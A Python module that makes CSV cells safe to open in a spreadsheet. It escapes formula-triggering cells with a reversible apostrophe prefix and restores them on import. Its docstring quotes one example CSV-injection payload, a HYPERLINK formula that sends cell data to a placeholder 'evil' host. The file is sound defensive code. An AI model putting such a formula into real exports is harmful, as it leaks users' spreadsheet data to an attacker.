"""Spreadsheet-safe CSV cells: every CSV mailseg writes goes through `neutralise`, every CSV it
reads through `restore`, so an export opened in a spreadsheet never runs a formula and an export
imported back gives the same data.

OWASP "CSV Injection": a cell beginning with `=`, `+`, `-`, `@`, a tab or a carriage return is
read as a formula by Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil/?"&A1,"x")`);
prefixing an apostrophe makes it text. To keep the mapping reversible, a cell that already starts
with apostrophes followed by a trigger gets one more: `=1` -> `'=1`, `'=1` -> `''=1`; `restore`
removes exactly one. A lone `'abc` (no trigger after the apostrophes) is written and read as is.
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = "=+-@\t\r"
_NEEDS_PREFIX = re.compile(r"'*[=+\-@\t\r]")
_PREFIXED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """The cell as a spreadsheet shows it as text (see the module doc)."""
    return "'" + cell if _NEEDS_PREFIX.match(cell) else cell


def restore(cell: str) -> str:
    """The inverse of `neutralise`: what mailseg wrote for `cell` before it was made safe."""
    return cell[1:] if _PREFIXED.match(cell) else cell
